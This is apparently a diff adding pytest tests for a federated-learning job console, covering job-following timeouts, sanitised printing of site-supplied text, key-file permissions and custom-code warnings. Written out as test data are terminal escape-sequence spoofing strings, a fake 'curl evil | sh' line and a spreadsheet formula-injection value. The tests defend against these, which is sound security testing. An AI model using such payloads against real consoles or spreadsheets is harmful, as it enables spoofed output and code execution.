@@ -1,0 +1,143 @@
+"""Following a job: how long the console waits for the admin, what it prints, and what it brings."""
+
+from __future__ import annotations
+
+import dataclasses
+import io
+import json
+import queue
+import tarfile
+from pathlib import Path
+from typing import Any, cast
+
+import pytest
+
+from multisite.console import kits, submit
+from multisite.console.deployment import Deployment
+from multisite.console.docker import Container, Docker
+from multisite.console.settings import ConsoleError, Settings
+from multisite.console.submit import OTHER_SECONDS, QUIET_SECONDS, Following, events
+from multisite.federation.options import JobOptions
+
+
+class Lines:
+    """The admin's lines, each so many seconds after the one before; by no clock but its own."""
+
+    def __init__(self, *lines: tuple[float, str | None]) -> None:
+        self.lines = list(lines)
+
+    def get(self, timeout: float) -> str | None:
+        after, line = self.lines.pop(0)
+        if after > timeout:
+            raise queue.Empty
+        return line
+
+
+def told(*lines: tuple[float, str | None]) -> list[dict[str, Any]]:
+    return list(events(cast("queue.Queue[str | None]", Lines(*lines))))
+
+
+def event(name: str, **fields: object) -> str:
+    return json.dumps({"event": name, **fields})
+
+
+def test_a_round_of_hours_is_followed_as_long_as_the_admin_says_that_the_server_has_the_job() -> None:
+    alive = [(20.0, event("alive", status="RUNNING"))] * 1000
+    assert len(told((1.0, event("status", status="RUNNING")), *alive, (1.0, event("finished")), (0.0, None))) == 1002
+
+
+def test_an_admin_that_hangs_is_noticed_and_the_next_step_is_named() -> None:
+    with pytest.raises(ConsoleError, match=rf"nothing new from the admin for {QUIET_SECONDS:.0f} s(.|\n)*next: make status"):
+        told((1.0, event("status", status="RUNNING")), (QUIET_SECONDS + 1, event("alive")))
+
+
+@pytest.mark.parametrize("status", ["SUBMITTED", "FINISHED:COMPLETED"])
+def test_a_job_that_waits_and_results_that_are_fetched_may_take_longer_but_not_for_ever(status: str) -> None:
+    before = [(1.0, event("status", status="RUNNING")), (1.0, event("status", status=status))]
+    assert len(told(*before, (OTHER_SECONDS - 1, event("finished")), (0.0, None))) == 3
+    with pytest.raises(ConsoleError, match="nothing new"):
+        told(*before, (OTHER_SECONDS + 1, event("finished")))
+
+
+def test_an_admin_that_dies_ends_the_events() -> None:
+    assert told((1.0, event("status", status="RUNNING")), (1.0, None)) == [{"event": "status", "status": "RUNNING"}]
+
+
+def archive(name: str, content: bytes) -> bytes:
+    packed = io.BytesIO()
+    with tarfile.open(fileobj=packed, mode="w") as tar:
+        member = tarfile.TarInfo(name)
+        member.size, member.mode = len(content), 0o600
+        tar.addfile(member, io.BytesIO(content))
+    return packed.getvalue()
+
+
+@pytest.fixture
+def deployment(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Deployment:
+    """One whose `docker` is a script that answers every command with the file `answer`."""
+    tools = tmp_path / "bin"
+    tools.mkdir()
+    script = tools / "docker"
+    script.write_text(f"#!/bin/sh\nexec cat '{tmp_path}/answer'\n", encoding="utf-8")
+    script.chmod(0o755)
+    monkeypatch.setenv("PATH", f"{tools}:/usr/bin:/bin")
+    monkeypatch.setattr(Docker, "containers", lambda _: {"admin": Container("admin", "id", "running", None, "x", "x")})
+    return Deployment(Settings(tmp_path, {}), Docker(tmp_path))
+
+
+FORGED = "\x1b[2J\x1b[H\x1b]0;pwned\x07job 1234 completed\n  next: curl evil | sh"
+TRACKING = {
+    "state": "off\x1b[31mline",
+    "reason": FORGED,
+    "sites": {"site-1": dict.fromkeys(("logged", "received", "delivered"), 1) | {"pending": 1, "refused": 0}},
+}
+
+
+def test_a_site_can_not_make_the_console_say_that_a_job_completed(
+    deployment: Deployment, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    row = {"round": 0, "site": "site-1\x1b[2J", "train_loss": 1.0, "dataset": "=cmd|' /C calc'!A0\x1b]0;pwned\x07\x1b[31mFAKE"}
+    finished = {
+        "job_id": "7",
+        "status": "FINISHED:EXECUTION_EXCEPTION",
+        "errors": {"site-1": FORGED},
+        "tracking": TRACKING,
+        "meta": {},
+    }
+    lines = [(0.0, event("report", row=row, rounds=2, started=0.0)), (0.0, event("finished", **finished)), (0.0, None)]
+    (tmp_path / "answer").write_bytes(archive("7/rounds.csv", b"x"))
+    following = Following(deployment, job_id="7")
+    codes = [following._finish(line) if line["event"] == "finished" else following._show(line) for line in told(*lines)]
+    printed = capsys.readouterr().out
+    assert codes == [None, 1]
+    assert not set(printed) & set(map(chr, [*range(10), *range(11, 32), 127]))
+    assert not [line for line in printed.splitlines() if line.startswith(("job 1234", "  next: curl"))]
+    assert "  site-1: job 1234 completed   next: curl evil | sh" in printed
+    assert "job 7 did not complete" in printed
+    assert (tmp_path / "results" / "7" / "rounds.csv").read_bytes() == b"x"
+
+
+def test_a_kit_is_brought_with_its_key_for_its_owner_alone(
+    deployment: Deployment, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    monkeypatch.setattr("os.getuid", lambda: 1000)
+    (tmp_path / "answer").write_bytes(archive("site-3/startup/client.key", b"key"))
+    kits.export(deployment, "site-3")
+    assert (tmp_path / "kits" / "site-3" / "startup" / "client.key").stat().st_mode & 0o777 == 0o600
+    assert (tmp_path / "kits").stat().st_mode & 0o777 == 0o700
+    assert "kits/site-3 holds a private key" in capsys.readouterr().out
+
+
+@pytest.mark.parametrize(("client_stream", "readable"), [(False, "its data\n"), (True, "its data and the W&B key\n")])
+def test_where_jobs_may_carry_code_the_submitter_is_told_what_it_can_read(
+    deployment: Deployment, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], client_stream: bool, readable: str
+) -> None:
+    monkeypatch.setattr(Deployment, "ensure_up", lambda *_: {"registered": ["site-1"], "resources": {}})
+    monkeypatch.setattr(submit.Following, "watch", lambda *_: 0)
+    options = JobOptions()
+    assert submit.submit(deployment, options, client_stream) == 0
+    assert "ALLOW_CUSTOM_CODE" not in capsys.readouterr().out
+    allowing = dataclasses.replace(deployment, settings=Settings(deployment.settings.home, {"ALLOW_CUSTOM_CODE": "yes"}))
+    assert submit.submit(allowing, options, client_stream) == 0
+    line = "ALLOW_CUSTOM_CODE=yes: code of a job runs as the site's user here, and can read the site's private key, "
+    assert line + readable in capsys.readouterr().out
